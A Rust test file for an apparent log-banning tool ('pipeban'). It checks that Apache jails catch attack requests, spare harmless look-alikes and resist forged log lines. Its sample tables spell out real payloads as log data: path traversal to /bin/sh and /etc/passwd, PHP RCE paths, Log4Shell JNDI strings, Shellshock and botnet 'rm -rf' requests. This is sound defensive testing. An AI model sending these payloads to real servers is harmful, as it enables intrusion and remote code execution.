//! The shipped jails, each from both sides: an attack is banned in every format; what visitors send
//! is not; what a client smuggles into a harmless request hits no other client.

use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const CLIENT: &str = "203.0.113.9";

/// What an attack consists of.
#[derive(Clone, Copy)]
struct Request {
    line: &'static str,
    referer: &'static str,
    agent: &'static str,
}

const fn path(line: &'static str) -> Request {
    Request {
        line,
        referer: "-",
        agent: "Mozilla/5.0",
    }
}

const fn agent(agent: &'static str) -> Request {
    Request {
        line: "GET / HTTP/1.1",
        referer: "-",
        agent,
    }
}

const fn referer(referer: &'static str) -> Request {
    Request {
        line: "GET / HTTP/1.1",
        referer,
        agent: "Mozilla/5.0",
    }
}

/// Jail, an attack as the log has it.
const ATTACKS: &[(&str, Request)] = &[
    (
        "apache-cgitraversal-access",
        path("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1"),
    ),
    (
        "apache-cgitraversal-access",
        path("GET /icons/%%32%65%%32%65/%%32%65%%32%65/bin/bash HTTP/1.1"),
    ),
    (
        "apache-cgitraversal-access",
        path("GET /cgi-bin/%2E%2E/%2e%2e/bin/sh?x HTTP/1.0"),
    ),
    ("apache-cgitraversal-access", path("POST /bin/sh HTTP/1.1")),
    (
        "apache-attacks",
        path("GET /a/..%2f..%2fetc/passwd HTTP/1.1"),
    ),
    (
        "apache-attacks",
        path("GET /static/..%5c..%5cwindows%5cwin.ini HTTP/1.1"),
    ),
    (
        "apache-attacks",
        path("GET /@fs/..%2f..%2fproc/self/environ?raw HTTP/1.1"),
    ),
    (
        "apache-phpunit",
        path("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"),
    ),
    (
        "apache-php-rce",
        path(r"GET /index.php?s=/index/\\think\\app/invokefunction&function=x HTTP/1.1"),
    ),
    (
        "apache-php-rce",
        path("GET /?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display HTTP/1.1"),
    ),
    (
        "apache-php-rce",
        path(
            "POST /x.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
        ),
    ),
    (
        "apache-php-rce",
        path("GET /index.php?lang=../pearcmd&+config-create+/&/<?echo(1);?>+/tmp/x.php HTTP/1.1"),
    ),
    (
        "apache-log4shell",
        path("GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1"),
    ),
    (
        "apache-log4shell",
        path("GET /%24%7Bjndi%3Aldap%3A//192.0.2.66/a%7D HTTP/1.1"),
    ),
    ("apache-log4shell", agent("${jndi:ldap://192.0.2.66/a}")),
    (
        "apache-log4shell",
        agent("t('${${env:NaN:-j}ndi:ldap://192.0.2.66/a}')"),
    ),
    ("apache-log4shell", referer("${jndi:dns://192.0.2.66/a}")),
    (
        "apache-log4shell",
        referer("https://${jndi:dns://192.0.2.66/a}"),
    ),
    (
        "apache-log4shell",
        path("GET /?x=${${lower:j}ndi:${lower:l}${lower:d}ldap://192.0.2.66/a} HTTP/1.1"),
    ),
    (
        "apache-log4shell",
        agent("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://192.0.2.66/a}"),
    ),
    ("apache-shellshock", agent("() { :;}; /bin/id")),
    ("apache-shellshock", referer("() { x;};echo")),
    (
        "apache-botnet",
        path("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1"),
    ),
    (
        "apache-botnet",
        path("POST /GponForm/diag_Form?images/ HTTP/1.1"),
    ),
    (
        "apache-botnet",
        path("GET /boaform/admin/formLogin?username=a HTTP/1.1"),
    ),
    (
        "apache-botnet",
        path("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd HTTP/1.1"),
    ),
    (
        "apache-botnet",
        path("GET /w00tw00t.at.ISC.SANS.DFind HTTP/1.1"),
    ),
    ("apache-scanners", agent("sqlmap/1.7 (https://sqlmap.org)")),
    ("apache-scanners", agent("Fuzz Faster U Fool v2.1.0-dev")),
    (
        "apache-scanners",
        agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"),
    ),
];

/// What visitors send, and what only looks like an attack.
const HARMLESS: &[Request] = &[
    path("GET / HTTP/1.1"),
    path("GET /cgi-bin/search?q=/bin/sh HTTP/1.1"),
    path("GET /search?q=..%2F..%2Fetc%2Fpasswd HTTP/1.1"),
    path("GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D HTTP/1.1"),
    path("GET /?s=index%2F%5Cthink%5Capp%2Finvokefunction HTTP/1.1"),
    path("GET /?q=php+-d+allow_url_include%3D1 HTTP/1.1"),
    path("GET /?q=%2Bconfig-create%2B+%3C%3F HTTP/1.1"),
    path("GET /blog/eval-stdin.php-explained HTTP/1.1"),
    path("GET /pub/debian/bin/sh HTTP/1.1"),
    path("GET /man/bin/sh.html HTTP/1.1"),
    path("GET /a/../b HTTP/1.1"),
    agent("Mozilla/5.0 (Linux; U; Android 4; Touch; () function) nagios"),
    referer("https://www.example.org/?q=() { :;}; /bin/id"),
    referer("https://www.example.org/?q=sqlmap/1.7"),
    referer("https://www.example.org/?q=${jndi:ldap://192.0.2.66/a}"),
    referer("https://www.example.org/?q=${${lower:j}ndi:ldap://192.0.2.66/a}"),
    referer(r#"https://www.example.org/?\" \"${jndi:ldap://192.0.2.66/a}"#),
];

fn lines(request: &Request) -> Vec<String> {
    let Request {
        line,
        referer,
        agent,
    } = request;
    let tail = format!("[22/Nov/2026:11:00:32 +0000] \"{line}\" 404 196 \"{referer}\" \"{agent}\"");
    vec![
        format!("{CLIENT} - - {tail}"),
        format!("2001:db8::7 - alice {tail}"),
        format!("www.example.org:443 {CLIENT} - - {tail}"),
        format!("www.example.org:443 {CLIENT} 192.0.2.1 - - {tail}"),
    ]
}

/// What `pipeban test` says of a line: verdict, host, and the jails that matched, each with whether
/// it bans for this line alone.
type Answer = (String, String, Vec<(String, bool)>);

/// `pipeban test` on these lines.
fn test(how: &[&str], lines: &[String]) -> Vec<Answer> {
    let mut child = Command::new(env!("CARGO_BIN_EXE_pipeban"))
        .args(["test", "--json"])
        .args(how)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut text = lines.join("\n");
    text.push('\n');
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    let answers: Vec<Answer> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| {
            let value: serde_json::Value = serde_json::from_str(line).unwrap();
            let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
            let matches = value["matches"].as_array().unwrap().iter();
            (
                text(&value["verdict"]),
                text(&value["host"]),
                matches
                    .map(|found| (text(&found["jail"]), found["bans_alone"].as_bool().unwrap()))
                    .collect(),
            )
        })
        .collect();
    assert_eq!(answers.len(), lines.len());
    answers
}

/// All shipped access jails on these lines.
fn test_all(format: &str, lines: &[String]) -> Vec<Answer> {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("pipeban.toml");
    let share = repository("config");
    std::fs::write(&file, format!("[paths]\nshare = \"{}\"\n", share.display())).unwrap();
    test(
        &[
            "--config",
            file.to_str().unwrap(),
            "--kind",
            "access",
            "--format",
            format,
        ],
        lines,
    )
}

fn repository(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

const FORMATS: [&str; 4] = ["combined", "combined", "vhost_combined", "pipeban"];

#[test]
fn an_attack_is_banned_by_its_jail_in_every_format() {
    for (index, format) in FORMATS.iter().enumerate() {
        let lines: Vec<String> = ATTACKS
            .iter()
            .map(|(_, request)| lines(request)[index].clone())
            .collect();
        let host = if index == 1 { "2001:db8::7" } else { CLIENT };
        let answers = test_all(format, &lines);
        for ((jail, _), ((verdict, hit, matches), line)) in
            ATTACKS.iter().zip(answers.iter().zip(&lines))
        {
            assert_eq!((verdict.as_str(), hit.as_str()), ("match", host), "{line}");
            assert!(
                matches.contains(&((*jail).to_owned(), true)),
                "{matches:?}: {line}"
            );
        }
    }
}

#[test]
fn every_access_jail_has_a_sample() {
    let file = repository("config/jails.d/apache.toml");
    let jails: toml::Table = toml::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    let jails = jails["jails"].as_table().unwrap().iter();
    let access: BTreeSet<_> = jails
        .filter(|(_, jail)| jail["log"].as_str() == Some("access"))
        .map(|(name, _)| name.as_str())
        .collect();
    let hit: BTreeSet<_> = ATTACKS.iter().map(|(jail, _)| *jail).collect();
    assert_eq!(hit, access);
}

#[test]
fn what_visitors_send_bans_no_client_for_one_line() {
    for (index, format) in FORMATS.iter().enumerate() {
        let lines: Vec<String> = HARMLESS
            .iter()
            .map(|request| lines(request)[index].clone())
            .collect();
        for (answer, line) in test_all(format, &lines).iter().zip(&lines) {
            assert!(
                answer.2.iter().all(|(_, alone)| !alone),
                "{answer:?}: {line}"
            );
        }
    }
}

#[test]
fn nobody_is_hit_for_what_another_one_smuggled_into_a_line() {
    let time = "[22/Nov/2026:11:00:32 +0000]";
    let mut lines = Vec::new();
    for (_, attack) in ATTACKS {
        // The attack as a whole line of another client's, in each field that a client writes.
        let whole = format!(
            "198.51.100.1 - - {time} \\\"{}\\\" 404 1 \\\"{}\\\" \\\"{}\\\"",
            attack.line, attack.referer, attack.agent
        );
        lines.push(format!(
            "{CLIENT} - {whole} {time} \"GET / HTTP/1.1\" 401 1 \"-\" \"x\""
        ));
        lines.push(format!(
            "{CLIENT} - - {time} \"GET /{} HTTP/1.1\" 404 1 \"-\" \"x\"",
            whole.replace(' ', "%20")
        ));
        lines.push(format!(
            "{CLIENT} - - {time} \"GET / HTTP/1.1\" 200 1 \"{whole}\" \"x\""
        ));
        lines.push(format!(
            "{CLIENT} - - {time} \"GET / HTTP/1.1\" 200 1 \"-\" \"{whole}\""
        ));
    }
    for ((_, host, _), line) in test_all("combined", &lines).iter().zip(&lines) {
        assert!(host.is_empty() || host == CLIENT, "{host}: {line}");
    }
}

#[test]
fn the_error_logs_filter_hits_apaches_client_and_nothing_else() {
    let error = |text: &str| format!("[Sun Nov 22 11:00:33.366318 2026] {text}");
    let attack = "AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)";
    let forged = "[client 198.51.100.1:1] AH10244: invalid URI path (/cgi-bin/../bin/sh)";
    let filter = repository("config/filters.d/apache-cgitraversal.toml");
    let tutorial = repository("config/examples/filters.d/apache-cgitraversal.conf");
    // Line, what the shipped filter says, what the tutorial's says.
    let cases = [
        (
            error(&format!(
                "[core:error] [pid 1:tid 2] [client {CLIENT}:49108] {attack}"
            )),
            "match",
            "match",
        ),
        (
            error(&format!(
                "[core:error] [pid 1] [client {CLIENT}:49108] {attack}, referer: {forged}"
            )),
            "match",
            "match",
        ),
        (
            error(&format!(
                "[authz_core:error] [pid 1:tid 2] [client {CLIENT}:49148] AH01630: client denied by server configuration: /x, referer: {forged}"
            )),
            "miss",
            "spoof",
        ),
        (
            error(&format!(
                "[core:error] [pid 1:tid 2] [client {CLIENT}:49108] AH10244: invalid URI path (/a/../../b)"
            )),
            "miss",
            "miss",
        ),
        (
            error(&format!(
                "[core:error] [pid 1:tid 2] [client {CLIENT}:49108] AH10244: invalid URI path (/x/.%2e/bin/sh)"
            )),
            "miss",
            "miss",
        ),
    ];
    let lines: Vec<String> = cases.iter().map(|(line, ..)| line.clone()).collect();
    for (file, column) in [(&filter, 0), (&tutorial, 1)] {
        for ((verdict, host, _), (line, shipped, example)) in test(
            &["--kind", "error", "--filter", file.to_str().unwrap()],
            &lines,
        )
        .iter()
        .zip(&cases)
        {
            assert_eq!(
                verdict,
                [shipped, example][column],
                "{}: {line}",
                file.display()
            );
            assert_eq!(host, if verdict == "match" { CLIENT } else { "" }, "{line}");
        }
    }
}
